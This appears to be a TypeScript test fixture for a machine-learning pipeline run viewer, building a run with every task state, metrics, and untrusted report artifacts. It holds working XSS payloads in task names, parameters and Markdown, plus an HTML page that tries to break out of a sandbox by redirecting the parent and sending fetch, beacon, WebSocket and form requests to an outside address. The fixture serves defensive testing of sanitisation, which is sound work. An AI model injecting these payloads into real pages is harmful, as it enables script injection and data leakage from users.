// A run with everything in it: all states, loops in conditions, metrics, documents, and texts that want to be obeyed.
import type { RunView } from "@slipway/runtime";
import { artifact, group, leaf, loop, runOf } from "./run.ts";

/** Each sets `window.caught` if it is ever run in the page. */
export const HOSTILE: readonly string[] = [
  "</script><script>window.caught='script'</script>",
  "<img src=x onerror=\"window.caught='onerror'\">",
  '"><svg onload="window.caught=\'onload\'">',
  "' onmouseover='window.caught=1' x='",
  "javascript:window.caught='url'",
  "</title></style><script>window.caught='title'</script>",
  "line\u2028separator \u202eevil\u202c \u0000 \ud800 {{x}} $(x)",
  "&lt;b&gt; &amp;amp;",
];

export const HTML_URI = "s3://bucket/churn/run-7f3a/report/1/page";
export const MARKDOWN_URI = "s3://bucket/churn/run-7f3a/report/1/notes";

/**
 * Draws something, and tries what it should not be able to do. `outside` is an address that notes who asks. Hints such as
 * preconnect, and WebRTC, are under no policy of browsers: docs/report.md says so.
 */
export function hostilePage(outside: string): string {
  return `<!DOCTYPE html><html><head><style>@import "${outside}/import.css";body{font-family:sans-serif;background:url(${outside}/background)}b{color:teal}</style>
<base href="${outside}/base/"><meta http-equiv="refresh" content="1;url=${outside}/refresh">
<link rel="prefetch" href="${outside}/prefetch"><link rel="icon" href="${outside}/icon">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${outside}/speculation"]}]}</script></head>
<body><h1>Feature importance</h1><div id="drawn">nothing</div>
<img src="${outside}/picture"><script src="${outside}/library.js"></script><link rel="stylesheet" href="${outside}/style.css">
<iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object><embed src="${outside}/embed"><video src="${outside}/video"></video>
<script>
document.getElementById("drawn").innerHTML = "<b>drawn</b> & more";
try { parent.document.body.innerHTML = ""; parent.caught = "parent"; } catch (error) {}
try { top.location = "${outside}/top"; } catch (error) {}
try { fetch("${outside}/fetch"); } catch (error) {}
try { new EventSource("${outside}/events"); } catch (error) {}
try { new Worker(URL.createObjectURL(new Blob(["fetch('${outside}/worker')"]))); } catch (error) {}
try { import("${outside}/module.js").catch(() => {}); } catch (error) {}
try { setTimeout(() => { location = "${outside}/self"; }, 1500); } catch (error) {}
try { new Image().src = "${outside}/image"; } catch (error) {}
try { navigator.sendBeacon("${outside}/beacon"); } catch (error) {}
try { new WebSocket("${outside}".replace("http", "ws") + "/socket"); } catch (error) {}
try { open("${outside}/popup"); } catch (error) {}
try { const form = document.createElement("form"); form.action = "${outside}/form"; document.body.append(form); form.submit(); } catch (error) {}
console.log(document.getElementById("drawn").textContent);
</script></body></html>`;
}

export const NOTES = `# Notes

Some *text*, a [link](https://example.com/), and <script>window.caught='markdown'</script><img src=x onerror=alert(1)>.

| step | took |
| ---- | ---- |
| fit  | 3 s  |

![chart](https://example.com/chart.png) [bad](javascript:window.caught=1)

- one
- two
`;

const dataset = artifact("dataset", "system.Dataset", "s3://bucket/churn/run-7f3a/prepare/1/dataset", {
  rows: 120_000,
});
const model = artifact("model", "system.Model", "s3://bucket/churn/run-7f3a/train/1/model", {
  framework: "xgboost",
  note: HOSTILE[1] ?? "",
});
const classes = artifact("quality", "system.ClassificationMetrics", "s3://bucket/churn/run-7f3a/evaluate/1/quality", {
  confidenceMetrics: [
    { confidenceThreshold: 1.7976931348623157e308, recall: 0, falsePositiveRate: 0 },
    { confidenceThreshold: 0.9, recall: 0.42, falsePositiveRate: 0.02 },
    { confidenceThreshold: 0.7, recall: 0.71, falsePositiveRate: 0.07 },
    { confidenceThreshold: 0.5, recall: 0.86, falsePositiveRate: 0.16 },
    { confidenceThreshold: 0.3, recall: 0.94, falsePositiveRate: 0.38 },
    { confidenceThreshold: 0.1, recall: 1, falsePositiveRate: 1 },
  ],
  confusionMatrix: {
    annotationSpecs: [{ displayName: "stays" }, { displayName: "leaves" }, { displayName: HOSTILE[0] ?? "" }],
    rows: [{ row: [412, 23, 2] }, { row: [31, 187, 9] }, { row: [4, 11, 58] }],
  },
});
const sliced = artifact(
  "slices",
  "system.SlicedClassificationMetrics",
  "s3://bucket/churn/run-7f3a/evaluate/1/slices",
  {
    evaluationSlices: ["north", "south"].map((slice, index) => ({
      slice,
      sliceClassificationMetrics: {
        confidenceMetrics: [0, 0.25, 0.5, 1].map((rate) => ({
          confidenceThreshold: 1 - rate,
          recall: rate ** (0.3 + index * 0.3),
          falsePositiveRate: rate,
        })),
      },
    })),
  },
);

const sweep = ["SUCCEEDED", "FAILED", "CACHED"] as const;

export function richRun(): RunView {
  const tasks = [
    leaf("import-schema", { kind: "importer", from: 0.1, to: 0.1 }),
    leaf("prepare", {
      from: 0.2,
      to: 6.4,
      retry: 2,
      after: ["import-schema"],
      parameters: { rows: 120_000, table: "events", filters: { country: ["de", "fr"], long: "x".repeat(500) } },
      outputs: { dataset: [dataset] },
      results: { count: 119_874 },
    }),
    leaf("validate", {
      state: "CACHED",
      cacheFrom: "run-11c0",
      from: 6.5,
      to: 6.6,
      after: ["prepare"],
      inputs: { data: [dataset] },
    }),
    leaf("train", {
      from: 6.5,
      to: 64.2,
      after: ["prepare"],
      parameters: { "learning-rate": 0.05, depth: 6 },
      inputs: { data: [dataset] },
      outputs: {
        model: [model],
        metrics: [
          artifact("metrics", "system.Metrics", "s3://b/m", { accuracy: 0.93124, loss: 0.211, best: "epoch 7" }),
        ],
      },
    }),
    leaf("evaluate", {
      from: 64.4,
      to: 71,
      after: ["train", "validate"],
      inputs: { model: [model], data: [dataset] },
      outputs: { quality: [classes], slices: [sliced] },
    }),
    group(
      "condition-1",
      { state: "FAILED", after: ["evaluate"], condition: "inputs.parameter_values['pipelinechannel--accuracy'] > 0.9" },
      (place) => [
        loop(
          "for-loop-2",
          sweep,
          (inner, iteration) => [
            leaf(
              "fit",
              {
                state: sweep[iteration] === "CACHED" ? "CACHED" : "SUCCEEDED",
                cacheFrom: sweep[iteration] === "CACHED" ? "run-11c0" : "",
                from: 72 + iteration,
                to: 80 + iteration * 3,
                outputs: {
                  metrics: [
                    artifact("metrics", "system.Metrics", `s3://b/f${iteration}`, {
                      accuracy: 0.9 + iteration / 50,
                      depth: iteration + 3,
                    }),
                  ],
                },
              },
              inner,
            ),
            sweep[iteration] === "FAILED"
              ? leaf(
                  "score",
                  {
                    state: "FAILED",
                    from: 84,
                    to: 86,
                    after: ["fit"],
                    error: {
                      message: 'task "score" ended with exit code 1',
                      exitCode: 1,
                      hint: "The module pandas is missing: name it in packages_to_install.",
                      stderr: [
                        "Traceback (most recent call last):",
                        '  File "main.py", line 3, in <module>',
                        "\u001b[31mModuleNotFoundError: No module named 'pandas'\u001b[0m",
                      ],
                    },
                  },
                  inner,
                )
              : leaf(
                  "score",
                  { state: iteration === 2 ? "CACHED" : "SUCCEEDED", from: 84, to: 88, after: ["fit"] },
                  inner,
                ),
          ],
          { state: "FAILED" },
          place,
        ),
        leaf("choose", { state: "NOT_RUN", after: ["for-loop-2"] }, place),
      ],
    ),
    group(
      "condition-3",
      { state: "SKIPPED", after: ["evaluate"], condition: "inputs.parameter_values['deploy'] == true" },
      (place) => [leaf("deploy", { state: "SKIPPED", from: 71, to: 71 }, place)],
    ),
    leaf("report", {
      from: 71,
      to: 73,
      after: ["evaluate"],
      outputs: {
        page: [artifact("page", "system.HTML", HTML_URI)],
        notes: [artifact("notes", "system.Markdown", MARKDOWN_URI)],
        large: [{ ...artifact("large", "system.HTML", "s3://b/large"), size: 900_000_000 }],
      },
    }),
    leaf("watch", { state: "RUNNING", from: 73, after: ["report"] }),
    leaf("stopped", { state: "CANCELLED", from: 73, to: 75, after: ["report"] }),
    leaf(HOSTILE[0] ?? "", {
      displayName: HOSTILE[1] ?? "",
      from: 74,
      to: 76,
      after: ["report"],
      parameters: Object.fromEntries(HOSTILE.map((text) => [text, text])),
    }),
    leaf("notify", {
      from: 89,
      to: 90,
      trigger: "all-completed",
      after: ["report", "condition-1"],
      parameters: { text: "a".repeat(150_000) },
    }),
  ];
  return runOf(tasks, {
    state: "FAILED",
    to: 90.4,
    parameters: { rows: 120_000, "learning-rate": 0.05, note: HOSTILE[5] ?? "", deploy: false, absent: null },
    outputs: { parameters: { accuracy: 0.93124 }, artifacts: { model: [model] } },
  });
}
